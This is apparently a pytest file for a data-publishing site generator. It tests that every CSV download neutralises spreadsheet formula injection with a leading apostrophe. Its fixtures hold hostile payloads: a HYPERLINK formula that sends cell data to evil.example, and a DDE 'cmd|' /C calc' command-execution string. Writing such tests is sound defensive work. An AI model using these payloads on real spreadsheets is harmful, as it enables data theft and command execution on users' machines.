"""Documents and hands that write formulas: no download of the built site runs one."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import re
import subprocess
import zipfile
from pathlib import Path

import msgspec
import pytest
from frictionless import Package, system

from generator.case_file.formats import csv_lines
from generator.case_file.report_view import load_report_views
from generator.case_file.reviews import Review
from generator.records import Figure, Record
from generator.site.build import build
from generator.site.paths import Paths
from generator.site_settings import SiteSettings
from generator.spreadsheet import original
from generator.store import DataFolder
from made_up.data import write_data

from .conftest import folders

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
STARTS = ("=", "+", "-", "@", "\t", "\r")
RAW = (FORMULA, "-", "+1+cmd|' /C calc'!A0", "@SUM(1)", "'=1", "-5")


def poisoned(record: Record) -> Record:
    """Formulas wherever a document's words go into a table."""
    figures = dict(record.figures)
    for key, raw in zip(list(figures), RAW, strict=False):
        figures[key] = Figure(state="text", raw=raw)
    key = next(key for key in reversed(figures) if key.endswith("total"))
    figures[key] = Figure(value=987654, state="number", raw="987654")
    contacts = msgspec.structs.replace(
        record.contacts,
        office=FORMULA,
        address=FORMULA,
        hours="+9:00",
        postcode="@A1",
        phones=(FORMULA,),
    )
    source = msgspec.structs.replace(record.source, file="=cmd.html")
    changes = {"figures": figures, "contacts": contacts, "source": source, "title": FORMULA}
    return msgspec.structs.replace(record, agency_name=FORMULA, **changes)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Paths:
    paths = folders(tmp_path_factory.mktemp("hostile"))
    write_data(paths.data, 3, (2021, 2023), seed=3)
    folder = DataFolder(paths.data)
    for record in list(folder.reports()):
        folder.write(
            poisoned(record), folder.path("annual_report", str(record.agency), record.year or 0)
        )
    build(paths, SiteSettings(), jobs=1)
    return paths


def is_number(cell: str) -> bool:
    return re.fullmatch(r"[+-]?\d+(\.\d+)?(e[+-]?\d+)?", cell) is not None


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def tables(output: Path) -> dict[str, list[list[str]]]:
    """Every CSV file of the site, packed ones included."""
    found = {}
    for path in output.rglob("*"):
        if path.name.endswith(".csv"):
            found[str(path)] = rows_of(path.read_text(encoding="utf-8-sig"))
        elif path.name.endswith(".csv.gz"):
            found[str(path)] = rows_of(gzip.decompress(path.read_bytes()).decode("utf-8-sig"))
        elif path.name.endswith(".zip"):
            with zipfile.ZipFile(path) as archive:
                for name in archive.namelist():
                    raw = archive.read(name)
                    raw = gzip.decompress(raw) if name.endswith(".gz") else raw
                    if name.removesuffix(".gz").endswith(".csv"):
                        found[f"{path}|{name}"] = rows_of(raw.decode("utf-8-sig"))
    return found


def test_no_cell_of_any_download_begins_a_formula(hostile: Paths) -> None:
    found = tables(hostile.output)
    assert len(found) >= 20
    cells = [(name, cell) for name, rows in found.items() for row in rows for cell in row]
    assert [one for one in cells if one[1].startswith(STARTS) and not is_number(one[1])] == []
    assert any(cell == f"'{FORMULA}" for _, cell in cells)


def test_what_the_document_prints_can_be_had_back(hostile: Paths) -> None:
    record = next(DataFolder(hostile.data).reports())
    name = f"data/figures-{record.year}-{record.region[:2]}.csv.gz"
    text = gzip.decompress((hostile.output / name).read_bytes())
    rows = csv.DictReader(io.StringIO(text.decode("utf-8-sig"), newline=""))
    found = {row["field"]: original(row["raw"]) for row in rows if row["agency"] == record.agency}
    assert found == {key: figure.raw or "" for key, figure in record.figures.items()}
    assert set(RAW) <= set(found.values())


def test_the_package_is_still_valid_and_says_the_rule(hostile: Paths, tmp_path: Path) -> None:
    with zipfile.ZipFile(hostile.output / "data" / "gongkai-data.zip") as archive:
        archive.extractall(tmp_path)
    with system.use_context(trusted=True):
        report = Package(tmp_path / "datapackage.json").validate()
    assert report.valid, report.flatten(["title", "rowNumber", "fieldName", "note"])[:10]
    described = json.loads((tmp_path / "datapackage.json").read_text("utf-8"))
    assert all("apostrophe" in table["description"] for table in described["resources"])
    readme = (tmp_path / "README.txt").read_text("utf-8")
    assert "撇号" in readme and "apostrophe" in readme
    page = (hostile.output / "data" / "index.html").read_text("utf-8")
    assert page.count("撇号") >= 3


def test_check_prints_no_formula(hostile: Paths) -> None:
    findings = list(load_report_views(DataFolder(hostile.data), jobs=1).findings())
    assert findings
    review = Review("a", "accepted_as_printed", FORMULA, "2024-02-01", FORMULA)
    lines = csv_lines(findings, {found.id: review for found in findings}, "zh")
    cells = [cell for line in lines for row in rows_of(line) for cell in row]
    assert f"'{FORMULA}" in cells
    assert [cell for cell in cells if cell.startswith(STARTS) and not is_number(cell)] == []


def formulas_in(path: Path, tmp_path: Path) -> int:
    """How many formulas LibreOffice sees in a CSV file."""
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    command = [
        "soffice",
        profile,
        "--headless",
        "--convert-to",
        "fods",
        "--outdir",
        str(tmp_path),
        str(path),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    sheet = (tmp_path / f"{path.stem}.fods").read_text(encoding="utf-8")
    assert "HYPERLINK" in sheet
    return sheet.count("table:formula")


def test_libreoffice_shows_no_formula(hostile: Paths, tmp_path: Path) -> None:
    bare = tmp_path / "bare.csv"
    bare.write_text('甲,"=HYPERLINK(""http://evil.example"",""x"")"\n', encoding="utf-8-sig")
    assert formulas_in(bare, tmp_path) == 1  # it would run one
    assert formulas_in(hostile.output / "data" / "contacts.csv", tmp_path) == 0


def test_every_file_of_the_sums_is_published(hostile: Paths) -> None:
    folder = hostile.output / "data"
    lines = (folder / "sha256sums.txt").read_text(encoding="utf-8").splitlines()
    listed = {name: digest for digest, _, name in (line.partition("  ") for line in lines)}
    there = {path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file()}
    there -= {name for name in there if name.startswith("charts/")}  # how to draw, no data
    assert set(listed) == {name for name in there if not name.endswith((".html", "sums.txt"))}
    for name, digest in listed.items():
        assert hashlib.sha256((folder / name).read_bytes()).hexdigest() == digest
